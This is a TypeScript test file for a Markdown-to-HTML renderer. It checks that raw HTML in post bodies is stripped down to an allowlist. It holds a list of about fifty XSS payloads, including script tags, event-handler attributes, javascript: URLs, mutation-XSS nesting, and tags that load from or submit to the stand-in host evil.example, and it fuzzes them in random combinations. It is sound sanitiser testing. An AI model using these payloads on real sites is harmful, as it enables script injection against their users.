import type { Nodes } from 'hast';
import fc from 'fast-check';
import { rehype } from 'rehype';
import { describe, expect, it } from 'vitest';
import { bodyHtml } from '../../src/markdown/body.ts';
import { OPTIONS } from './options.ts';

/** Everything that a body may contain. A deliberate copy: a change to the allowlist must be made twice. */
const ELEMENTS = new Set(
  (
    'p br hr h2 h3 h4 h5 h6 blockquote pre ul ol li dl dt dd table thead tbody tfoot tr th td caption a em strong b i s u del ins ' +
    'sub sup code kbd samp var mark small q cite abbr dfn time span figure figcaption details summary section input div wbr ' +
    'picture source img'
  ).split(' '),
);
const ATTRIBUTES = new Set(
  (
    'href rel title lang dir id className role ariaLabel tabIndex src alt width height loading decoding srcSet type sizes dateTime ' +
    'checked disabled start reversed value colSpan rowSpan scope open dataFootnoteRef dataFootnoteBackref dataFootnotes ariaDescribedBy'
  ).split(' '),
);
const CLASSES =
  /^(?:center|right|table|enlarge|gallery|media|audio|footnotes|sr-only|data-footnote-backref|task-list-item|contains-task-list|language-\S+)$/;

const parser = rehype().data('settings', { fragment: true }).freeze();

/** Everything in the HTML, as a browser parses it, that is not on the list. */
function intruders(html: string): string[] {
  const found: string[] = [];
  const visit = (node: Nodes): void => {
    if (node.type === 'comment' || node.type === 'doctype') found.push(node.type);
    if (node.type === 'element') {
      if (!ELEMENTS.has(node.tagName)) found.push(`<${node.tagName}>`);
      for (const [name, value] of Object.entries(node.properties)) {
        if (!ATTRIBUTES.has(name)) found.push(name);
        if (name === 'className') found.push(...(value as string[]).filter((it) => !CLASSES.test(it)));
        if (
          name === 'href' &&
          /^[^/#?]*:/.test(String(value)) &&
          !/^(?:https?|mailto|tel):/i.test(String(value))
        )
          found.push(String(value));
        if (name === 'src' && !String(value).startsWith('/bilder/')) found.push(String(value));
      }
    }
    if ('children' in node) node.children.forEach(visit);
  };
  visit(parser.parse(html));
  return found;
}

const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example></SCRIPT>',
  '</script><script>alert(1)',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="./bild.png" onload="alert(1)" style="x" class="y" id="z">',
  "<b onclick=alert(1) onmouseover='x'>Text</b>",
  '<details open ontoggle=alert(1)>x</details>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="x"></object>',
  '<embed src="x">',
  '<frameset><frame src=x></frameset>',
  '<style>body{display:none}</style>',
  '<p style="position:fixed">x</p>',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href="//evil.example">',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<form action="//evil.example"><input name=x type=text autofocus onfocus=alert(1)><button>x</button></form>',
  '<textarea></textarea><select><option>x</select>',
  '<input type=image src=x onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<audio src=x onerror=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<picture><source srcset="//evil.example/x.png"><img src="//evil.example/x.png"></picture>',
  '<!-- --><script>alert(1)</script> -->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo 1 ?>',
  '<!doctype html>',
  '<a href="javascript:alert(1)" target=_blank>x</a>',
  '<a href="data:text/html,x" ping=//evil.example download>x</a>',
  '<area href=x><map name=x></map>',
  '<blink>x</blink><marquee onstart=alert(1)>x</marquee>',
  '<h2 id="constructor" name="x">x</h2>',
  '<div id=content class="article">x</div>',
  '<custom-element onx=1>x</custom-element>',
  '<div role="main" aria-label="x" tabindex=9 hidden contenteditable>x</div>',
  '<html><body onload=alert(1)>',
  '</div></main></article>',
  '<p',
  '<a href="',
  '<table><script>',
  '<xmp><script>alert(1)</script></xmp>',
  '<plaintext>',
  '<time datetime="2023-03-30" onclick=x>x</time>',
  '<td background="javascript:x">x</td>',
  '<a href="#" class="evil language-x">x</a>',
  '<code class="language-js evil">x</code>',
];

describe('raw HTML', () => {
  it.each(HOSTILE)('admits only what is on the list: %s', (html) => {
    for (const markdown of [
      html,
      `Ein ${html} Wort`,
      `- ${html}\n- x`,
      `> ${html}`,
      `| a |\n|---|\n| ${html} |`,
      `## ${html}`,
      `[${html}](/x/)`,
      `a[^1]\n\n[^1]: ${html}`,
    ]) {
      expect(intruders(bodyHtml(markdown, OPTIONS)), markdown).toEqual([]);
    }
  });

  it('admits only what is on the list when fragments are combined at random', () => {
    const piece = fc.oneof(
      fc.constantFrom(...HOSTILE),
      fc.constantFrom(
        '\n',
        '\n\n',
        '`',
        '```\n',
        '*',
        '> ',
        '| a |\n|---|\n',
        '- ',
        '<',
        '>',
        '"',
        "'",
        '&lt;script&gt;',
        '[x](',
        ')',
        '![x](',
        '</p>',
        '<b>',
        '\\',
      ),
    );
    fc.assert(
      fc.property(fc.array(piece, { minLength: 1, maxLength: 6 }), (pieces) => {
        expect(intruders(bodyHtml(pieces.join(''), OPTIONS))).toEqual([]);
      }),
      { seed: 6, numRuns: 400 },
    );
  });

  it('removes scripts with their text, and keeps the text of other elements', () => {
    expect(bodyHtml('a <script>alert(1)</script> b <style>p{}</style> c <blink>d</blink>', OPTIONS)).toBe(
      '<p>a  b  c d</p>',
    );
  });

  it('keeps everything on the list', () => {
    const html =
      '<p>H<sub>2</sub>O, <abbr title="Onlinezugangsgesetz">OZG</abbr>, <kbd>Strg</kbd>, <mark>neu</mark>, <time datetime="2023-03-30">gestern</time></p>';
    expect(bodyHtml(html, OPTIONS)).toBe(html);
  });

  it('is tested with a check that notices intruders', () => {
    expect(intruders('<p onclick="x"><script></script><a href="javascript:x" class="y">z</a></p>')).toEqual([
      'onClick',
      '<script>',
      'javascript:x',
      'y',
    ]);
  });
});
